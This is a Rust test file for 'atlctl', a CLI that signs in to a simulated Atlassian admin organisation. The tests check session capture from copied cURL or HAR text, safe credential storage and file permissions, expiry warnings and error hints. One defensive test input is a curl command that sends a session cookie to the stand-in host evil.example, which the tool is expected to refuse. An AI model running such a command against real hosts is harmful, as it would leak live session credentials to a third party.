//! Signing in with what was captured, and everything that can be wrong with it.

use std::os::unix::fs::PermissionsExt as _;

use atlctl_sim::{Expiry, SimConfig};

use crate::common::{Env, Place, chmod};

#[test]
fn a_copied_request_signs_in() {
    let place = Place::new(SimConfig::default());
    let file = place
        .env
        .private("copied.txt", place.control().capture_curl());
    let file = file.to_str().unwrap();
    insta::assert_snapshot!(place.run(&["auth", "login", "--capture", file, "--store", "file"]), @"
    ------- stderr -------
    Read a request copied as cURL (bash).
    Hint: [HOME]/copied.txt holds a live session: delete it when you are signed in
    Signed in as ada.admin@acme.example to Acme (simulated) (the session works; kept in a file that only you can read).
    [exit status: 0]
    ");
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    Profile         default
    Works           yes
    Credentials     session
    Kept in         file
    Account         ada.admin@acme.example
    Account id      712020:69b82ebc-9223-4300-81d5-24478219731a
    Session issued  2026-11-24 09:00
    Session ends    2026-12-24 09:00
    API key ends    -
    Organisation    jj7a5e99-7c3f-4f75-8771-7900ae3deb41
    Sees            Acme (simulated) (jj7a5e99-7c3f-4f75-8771-7900ae3deb41)
    [exit status: 0]
    ");
    insta::assert_snapshot!(place.run(&["auth", "list"]), @"
    Profile  In use  Organisation      Credentials  Kept in  Session ends
    default  yes     Acme (simulated)  session      file     2026-12-24 09:00
    [exit status: 0]
    ");
    let credentials = place.env.home().join(".config/atlctl/credentials");
    let mode =
        |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&credentials), 0o700);
    assert_eq!(mode(&credentials.join("default.json")), 0o600);
    let config =
        std::fs::read_to_string(place.env.home().join(".config/atlctl/config.toml")).unwrap();
    assert!(!config.contains("eyJ"), "{config}");
    // The session lists the people as the first scripts did.
    place
        .run(&[
            "api",
            "GET",
            "/gateway/api/adminhub/um/org/{org}/users?count=1",
        ])
        .expect(0);
}

/// Whoever begins with a list has no organisation to name yet.
#[test]
fn before_anybody_signed_in_that_is_what_is_said() {
    let mut env = Env::new();
    for command in [
        &["user", "list"][..],
        &["sync"],
        &["user", "list", "--live"],
    ] {
        insta::allow_duplicates! {
            insta::assert_snapshot!(env.run(command), @"
            ------- stderr -------
            Error: nobody is signed in
            Hint: sign in: atlctl auth login
            [exit status: 4]
            ");
        }
    }
    env.var("ATLCTL_API_KEY", "ATCTT-x");
    insta::assert_snapshot!(env.run(&["user", "list"]), @r#"
    ------- stderr -------
    Error: the profile "default" has no organisation
    Hint: see which there are: atlctl org list --live
    Hint: name one with --org ID, or for good: atlctl auth login --org ID
    [exit status: 2]
    "#);
}

#[test]
fn a_profile_holds_a_session_and_a_key() {
    let place = Place::with_key(SimConfig::default());
    let token = place.sim.session_token();
    insta::assert_snapshot!(
        place.run_with(&["auth", "login", "--token-stdin"], &token), @"
    ------- stderr -------
    Signed in as ada.admin@acme.example to Acme (simulated) (the session works; kept in a file that only you can read).
    [exit status: 0]
    ");
    insta::assert_snapshot!(place.run(&["auth", "status", "-o", "json"]), @r#"
    {"profile":"default","works":true,"credentials":["session","API key"],"source":"file","account":"ada.admin@acme.example","account_id":"712020:69b82ebc-9223-4300-81d5-24478219731a","session_issued":"2026-11-24T09:00:00Z","session_ends":"2026-12-24T09:00:00Z","api_key_ends":null,"organisation":"jj7a5e99-7c3f-4f75-8771-7900ae3deb41","sees":["Acme (simulated) (jj7a5e99-7c3f-4f75-8771-7900ae3deb41)"]}
    [exit status: 0]
    "#);
    insta::assert_snapshot!(place.run(&["auth", "logout"]), @"
    ------- stderr -------
    The credentials of the profile default are gone.
    [exit status: 0]
    ");
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    ------- stderr -------
    Error: nobody is signed in
    Hint: sign in: atlctl auth login
    [exit status: 4]
    ");
    insta::assert_snapshot!(place.run(&["auth", "logout", "--forget"]), @"
    ------- stderr -------
    The profile default is gone; it had no credentials.
    [exit status: 0]
    ");
    insta::assert_snapshot!(place.run(&["auth", "logout"]), @r#"
    ------- stderr -------
    Error: there is no profile "default"
    Hint: see which there are: atlctl auth list
    [exit status: 2]
    "#);
}

#[test]
fn where_to_keep_it_is_never_chosen_silently() {
    let place = Place::new(SimConfig::default());
    insta::assert_snapshot!(
        place.run_with(&["auth", "login", "--api-key-stdin"], &place.sim.api_key()), @"
    ------- stderr -------
    Error: there is nowhere to keep the credential: there is no keyring here
    Hint: --store file keeps it in a file that only you can read, not encrypted
    Hint: --store none only checks it
    [exit status: 1]
    ");
    insta::assert_snapshot!(
        place.run_with(&["auth", "login", "--api-key-stdin", "--store", "none"], &place.sim.api_key()), @"
    ------- stderr -------
    Signed in to Acme (simulated) (the API key works; kept nowhere).
    [exit status: 0]
    ");
    assert!(
        !place.env.home().join(".config").exists(),
        "nothing is kept"
    );
}

#[test]
fn what_does_not_work_is_not_kept() {
    let place = Place::new(SimConfig::default());
    let old = place.sim.session_token();
    place.control().expire(Expiry::Html);
    insta::assert_snapshot!(
        place.run_with(&["auth", "login", "--token-stdin", "--store", "file"], &old), @"
    ------- stderr -------
    Error: a web page came where data was expected (HTTP 200; GET /admin/v1/orgs)
    Hint: the session has expired; sign in: atlctl auth login
    [exit status: 4]
    ");
    insta::assert_snapshot!(
        place.run_with(&["auth", "login", "--api-key-stdin", "--store", "file"], "ATCTT-wrong"), @"
    ------- stderr -------
    Error: Unauthorized (HTTP 401, 401; GET /admin/v1/orgs)
    Hint: the credential is wrong or has expired; sign in: atlctl auth login
    Hint: a key made with few scopes may not list organisations: name yours with --org ID
    [exit status: 4]
    ");
    insta::assert_snapshot!(
        place.run_with(&["auth", "login", "--api-key-stdin", "--store", "file", "--org", "other"], &place.sim.api_key()), @"
    ------- stderr -------
    Error: this credential does not see the organisation other
    Hint: it sees: Acme (simulated) (jj7a5e99-7c3f-4f75-8771-7900ae3deb41)
    [exit status: 2]
    ");
    assert!(
        !place.env.home().join(".config").exists(),
        "nothing is kept"
    );
}

/// The profile's other credential and whom it protects would have gone to an organisation they are not of.
#[test]
fn a_profile_stays_with_its_organisation() {
    let place = Place::with_key(SimConfig::default());
    let file = place.env.home().join(".config/atlctl/config.toml");
    let config = std::fs::read_to_string(&file).unwrap();
    let ours = config
        .lines()
        .find(|line| line.starts_with("org = "))
        .unwrap();
    let other = config.replace(ours, "org = \"other\"");
    std::fs::write(&file, &other).unwrap();
    let token = place.sim.session_token();
    let login = ["auth", "login", "--token-stdin"];
    insta::assert_snapshot!(place.run_with(&login, &token), @"
    ------- stderr -------
    Error: this credential does not see the organisation other
    Hint: it sees: Acme (simulated) (jj7a5e99-7c3f-4f75-8771-7900ae3deb41)
    Hint: for another organisation, another profile: atlctl auth login --profile NAME
    Hint: to give the profile default to it all the same: add --org ID
    [exit status: 2]
    ");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), other);
    let id = ours.split('"').nth(1).unwrap();
    place
        .run_with(&[&login[..], &["--org", id]].concat(), &token)
        .expect(0);
    assert!(std::fs::read_to_string(&file).unwrap().contains(ours));
}

#[test]
fn what_is_kept_and_not_used_is_said() {
    let mut place = Place::with_key(SimConfig::default());
    let token = place.sim.session_token();
    let key = place.sim.api_key();
    place.env.var("ATLCTL_API_KEY", &key);
    insta::assert_snapshot!(place.run_with(&["auth", "login", "--token-stdin"], &token), @"
    ------- stderr -------
    Signed in as ada.admin@acme.example to Acme (simulated) (the session works; kept in a file that only you can read).
    Warning: ATLCTL_API_KEY is set and comes before what is kept
    [exit status: 0]
    ");
}

#[test]
fn a_broken_paste_is_refused_with_the_reason() {
    let place = Place::new(SimConfig::default());
    let login = ["auth", "login", "--store", "file", "--capture", "-"];
    insta::assert_snapshot!(place.run_with(&login, "eyJa.eyJb.c^").to_string().replace("eyJ", ""), @"
    ------- stderr -------
    Error: standard input gives no session: the token ends with '^': the paste was cut or its quoting is broken; copy the whole text again
    Hint: copy it again, and save it with an editor or a clipboard tool: a terminal may cut long lines
    [exit status: 2]
    ");
    insta::assert_snapshot!(place.run_with(&login, "hello there"), @"
    ------- stderr -------
    Error: standard input gives no session: this is neither a request copied as cURL or PowerShell, a HAR file, a Cookie line nor a session token
    Hint: in the admin portal open the developer tools, Network, reload, right-click a request to admin.atlassian.com and choose Copy as cURL
    [exit status: 2]
    ");
    insta::assert_snapshot!(
        place.run_with(&login, "curl 'https://evil.example/' -b 'cloud.session.token=a.b.c'"), @"
    ------- stderr -------
    Error: standard input gives no session: there is no request to Atlassian in it, only to evil.example
    Hint: copy a request to admin.atlassian.com instead
    [exit status: 2]
    ");
    let har =
        r#"{"log":{"entries":[{"request":{"url":"https://admin.atlassian.com/","headers":[]}}]}}"#;
    insta::assert_snapshot!(place.run_with(&login, har), @r#"
    ------- stderr -------
    Error: standard input gives no session: the HAR file was saved without cookies
    Hint: Chromium leaves cookies out unless told: DevTools settings, Preferences, Network, "Allow to generate HAR with sensitive data", then hold the export button and choose the one with sensitive data
    [exit status: 2]
    "#);
    insta::assert_snapshot!(place.run(&["auth", "login", "--capture", "nowhere.txt", "--store", "file"]), @"
    ------- stderr -------
    Error: cannot read nowhere.txt
      Caused by: No such file or directory (os error 2)
    [exit status: 2]
    ");
    insta::assert_snapshot!(place.run(&["auth", "login", "--store", "file"]), @"
    ------- stderr -------
    Error: there is no display for a browser window
    Hint: on a machine without a display: --capture FILE with a request copied elsewhere, or --api-key-stdin
    [exit status: 1]
    ");
}

#[test]
fn what_was_taken_for_something_else_is_named() {
    let place = Place::new(SimConfig::default());
    let login = ["auth", "login", "--store", "none"];
    let key = [&login[..], &["--api-key-stdin"]].concat();
    let output = place.run_with(&key, "ATATT-personal");
    assert!(output.stderr.contains("a personal API token"), "{output}");
    output.expect(4);
    let token = [&login[..], &["--token-stdin"]].concat();
    let output = place.run_with(&token, "ATCTT-an-organisation-s");
    assert!(output.stderr.contains("--api-key-stdin"), "{output}");
    output.expect(2);
    insta::assert_snapshot!(place.run_with(&key, &place.sim.session_token()), @"
    ------- stderr -------
    Error: this is a session token, not an API key
    Hint: a session token is taken with --token-stdin
    [exit status: 2]
    ");
    let capture = [&login[..], &["--capture", "-"]].concat();
    insta::assert_snapshot!(place.run_with(&capture, "ATCTT-an-organisation-s"), @"
    ------- stderr -------
    Error: standard input gives no session: a session token is three parts with dots between them; this has 1
    Hint: an organisation API key is taken with --api-key-stdin
    [exit status: 2]
    ");
    // In quotes, and as Windows' editors save it.
    let quoted = format!("\u{feff}\"{}\"\r\n", place.sim.api_key());
    place.run_with(&key, &quoted).expect(0);
}

#[test]
fn a_key_that_has_ended_is_a_slip() {
    let place = Place::new(SimConfig::default());
    let key = place.sim.api_key();
    let login = |day: &str| {
        let args = ["auth", "login", "--api-key-stdin", "--store", "none"];
        place.run_with(&[&args[..], &["--key-ends", day]].concat(), &key)
    };
    insta::assert_snapshot!(login("2025-12-31"), @"
    ------- stderr -------
    Error: --key-ends 2025-12-31 is over
    Hint: the admin portal shows the day the API key ends: Settings, API keys
    [exit status: 2]
    ");
    login("2026-11-24").expect(0);
}

#[test]
fn a_capture_that_others_can_read_is_warned_of() {
    let place = Place::new(SimConfig::default());
    let file = place.env.file("copied.txt", place.control().capture_curl());
    chmod(&file, 0o644);
    let output = place.run(&[
        "auth",
        "login",
        "--capture",
        file.to_str().unwrap(),
        "--store",
        "file",
    ]);
    assert!(
        output
            .stderr
            .contains("Warning: others on this machine can read"),
        "{output}"
    );
}

#[test]
fn a_secret_is_never_an_argument() {
    let env = Env::new();
    for args in [
        ["auth", "login", "--token", "a.b.c"],
        ["auth", "login", "--api-key", "x"],
        ["auth", "login", "--token-stdin", "a.b.c"],
    ] {
        assert_eq!(env.run(&args).code, 2, "{args:?}");
    }
}

#[test]
fn the_environment_comes_before_the_store() {
    let mut place = Place::with_key(SimConfig::default());
    let token = place.sim.session_token();
    place.env.var("ATLCTL_SESSION_TOKEN", &token);
    let output = place.run(&["auth", "status", "--columns", "credentials,source"]);
    insta::assert_snapshot!(output, @"
    Credentials  session
    Kept in      environment
    [exit status: 0]
    ");
    place.env.var("ATLCTL_SESSION_TOKEN", "nonsense");
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    ------- stderr -------
    Error: ATLCTL_SESSION_TOKEN holds no credential
      Caused by: a session token is three parts with dots between them; this has 1
    [exit status: 2]
    ");
}

/// A sign-in does not help whoever has an old key in the environment, a file or a password manager.
#[test]
fn a_refused_credential_says_where_it_came_from() {
    let mut place = Place::with_key(SimConfig::default());
    let live = ["user", "list", "--live"];
    let file = place.env.private("old", "ATCTT-old");
    let file = file.to_str().unwrap();
    let output = place.run(&[&live[..], &["--credential", file]].concat());
    assert!(
        output
            .stderr
            .contains("Hint: the credential is the one of --credential,"),
        "{output}"
    );
    place.env.var("ATLCTL_API_KEY", "ATCTT-old");
    insta::assert_snapshot!(place.run(&live), @"
    ------- stderr -------
    Error: Unauthorized (HTTP 401, 401; POST /admin/v2/orgs/{orgId}/directories/{directoryId}/users/search)
    Hint: the credential is wrong or has expired; sign in: atlctl auth login
    Hint: the credential is the one of ATLCTL_SESSION_TOKEN or ATLCTL_API_KEY, which comes before what a sign-in keeps
    [exit status: 4]
    ");
    // One that is kept is renewed by signing in.
    place.env.var("ATLCTL_API_KEY", "");
    place.control().fault("* * unauthorized").unwrap();
    let output = place.run(&live);
    assert_eq!(output.code, 4, "{output}");
    assert!(!output.stderr.contains("the one of"), "{output}");
}

#[test]
fn the_flag_comes_before_everything() {
    let mut place = Place::with_key(SimConfig::default());
    let token = place.sim.session_token();
    place.env.var("ATLCTL_API_KEY", "ATCTT-of-the-environment");
    let status = ["auth", "status", "--columns", "works,credentials,source"];
    let path = place.env.private("token", &token);
    let file = path.to_str().unwrap();
    insta::assert_snapshot!(place.run(&[&status[..], &["--credential", file]].concat()), @"
    Works        yes
    Credentials  session
    Kept in      nowhere (--credential)
    [exit status: 0]
    ");
    // From standard input it takes one line: the rest is the command's.
    let statement = format!("{token}\nSELECT 1 AS one");
    place
        .run_with(&["sync", "-q", "--credential", "-"], &statement)
        .expect(0);
    let sql = ["sql", "--file", "-", "--credential", "-", "-q", "-o", "csv"];
    insta::assert_snapshot!(place.run_with(&sql, &statement), @"
    one
    1
    [exit status: 0]
    ");
    chmod(&path, 0o644);
    insta::assert_snapshot!(place.run(&[&status[..], &["--credential", file]].concat()), @"
    ------- stderr -------
    Error: [HOME]/token can be read by others (mode 644); a credential in it is not safe
    Hint: chmod 600 [HOME]/token, and make a new one if others may have read it
    [exit status: 2]
    ");
    insta::assert_snapshot!(place.run_with(&["auth", "status", "--credential", "-"], "canary"), @"
    ------- stderr -------
    Error: standard input gives no credential
      Caused by: a session token is three parts with dots between them; this has 1
    Hint: it is a session token or an organisation API key, and nothing else
    [exit status: 2]
    ");
    let login = place.run_with(&["auth", "login", "--credential", "-"], &token);
    assert_eq!(login.code, 2, "{login}");
}

#[test]
fn a_password_manager_can_keep_it() {
    let place = Place::new(SimConfig::default());
    let script = format!(
        "#!/bin/sh\n[ -z \"$ATLCTL_API_KEY\" ] && echo {}\n",
        place.sim.api_key()
    );
    let path = place.env.script("keeper", script);
    let config = |command: &str| {
        place.env.file(
            ".config/atlctl/config.toml",
            format!("[profile.default]\ntoken_command = [{command}]\n"),
        );
    };
    config(&format!("{:?}", path.to_str().unwrap()));
    insta::assert_snapshot!(place.run(&["auth", "status", "--columns", "works,credentials,source"]), @"
    Works        yes
    Credentials  API key
    Kept in      the profile's token_command
    [exit status: 0]
    ");
    config("\"false\"");
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    ------- stderr -------
    Error: the profile's token_command false failed (exit status: 1)
    Hint: run it by hand to see what is wrong, or take token_command out of the profile and sign in: atlctl auth login
    [exit status: 4]
    ");
    config("\"no-such-program\"");
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    ------- stderr -------
    Error: the profile's token_command no-such-program cannot be run
      Caused by: No such file or directory (os error 2)
    Hint: run it by hand to see what is wrong, or take token_command out of the profile and sign in: atlctl auth login
    [exit status: 4]
    ");
    config("\"echo\", \"canary\"");
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    ------- stderr -------
    Error: the profile's token_command gave no credential
      Caused by: a session token is three parts with dots between them; this has 1
    [exit status: 4]
    ");
}

#[test]
fn a_renewed_session_is_written_back() {
    let place = Place::new(SimConfig {
        rotate_sessions: true,
        ..SimConfig::default()
    });
    let token = place.sim.session_token();
    place
        .run_with(
            &["auth", "login", "--token-stdin", "--store", "file"],
            &token,
        )
        .expect(0);
    let kept = || {
        let path = place
            .env
            .home()
            .join(".config/atlctl/credentials/default.json");
        std::fs::read_to_string(path).unwrap()
    };
    let first = kept();
    assert!(
        !first.contains(&token) && first.contains("eyJ"),
        "the call that checks it renewed it already"
    );
    place
        .run(&[
            "api",
            "GET",
            "/gateway/api/adminhub/um/org/{org}/users?count=1",
        ])
        .expect(0);
    assert!(
        kept() != first && kept().contains("eyJ"),
        "the new one is kept"
    );
    place.run(&["auth", "status"]).expect(0);
}

#[test]
fn the_end_of_a_session_is_announced() {
    let mut place = Place::with_session(SimConfig::default());
    for (now, warning) in [
        ("2026-11-24T10:00:00Z", ""),
        ("2026-12-01T09:00:00Z", "the session ends in 23 days"),
        ("2026-12-18T09:00:00Z", "the session ends in 6 days"),
        ("2026-12-23T10:00:00Z", "the session ends within a day"),
        (
            "2026-12-25T10:00:00Z",
            "by what is known of it, the session has ended",
        ),
    ] {
        place.env.var("ATLCTL_NOW", now);
        let output = place.run(&["auth", "status"]);
        let found = output
            .stderr
            .trim()
            .trim_start_matches("Warning: ")
            .to_owned();
        assert_eq!(found, warning, "{now}");
    }
}

#[test]
fn a_store_that_others_can_read_is_refused() {
    let place = Place::with_key(SimConfig::default());
    let path = place
        .env
        .home()
        .join(".config/atlctl/credentials/default.json");
    chmod(&path, 0o644);
    insta::assert_snapshot!(place.run(&["auth", "status"]), @"
    ------- stderr -------
    Error: [HOME]/.config/atlctl/credentials/default.json can be read by others (mode 644); a credential in it is not safe
    Hint: chmod 600 [HOME]/.config/atlctl/credentials/default.json, and sign in anew if others may have read it
    [exit status: 1]
    ");
}
